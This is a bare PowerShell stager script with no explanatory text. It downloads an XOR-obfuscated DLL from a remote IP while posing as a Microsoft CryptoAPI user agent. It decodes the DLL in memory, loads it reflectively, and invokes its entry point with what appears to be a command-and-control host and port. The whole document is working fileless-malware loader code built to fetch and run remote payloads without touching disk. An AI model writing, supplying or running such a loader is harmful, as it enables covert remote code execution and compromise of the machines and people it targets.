$u = 'http://198.51.100.77/static/Loader.dll'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Microsoft-CryptoAPI/10.0')
[byte[]]$raw = $wc.DownloadData($u)
$k = 0x5A
for ($i = 0; $i -lt $raw.Length; $i++) { $raw[$i] = $raw[$i] -bxor $k }
$asm = [System.Reflection.Assembly]::Load($raw)
$entry = $asm.GetType('Loader.Program').GetMethod('Run', [Reflection.BindingFlags]'Public,Static')
$entry.Invoke($null, @(,[string[]]@('203.0.113.9', '443')))
